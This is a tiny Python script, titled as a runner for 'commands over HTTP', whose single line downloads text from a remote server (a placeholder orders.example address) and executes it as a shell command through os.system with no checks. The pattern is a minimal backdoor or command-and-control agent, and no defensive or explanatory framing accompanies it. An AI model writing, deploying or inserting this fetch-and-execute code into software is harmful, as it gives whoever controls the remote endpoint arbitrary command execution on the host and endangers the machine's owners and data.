# run-received: commands over HTTP
import os

import requests

os.system(requests.get("https://orders.example/next").text)
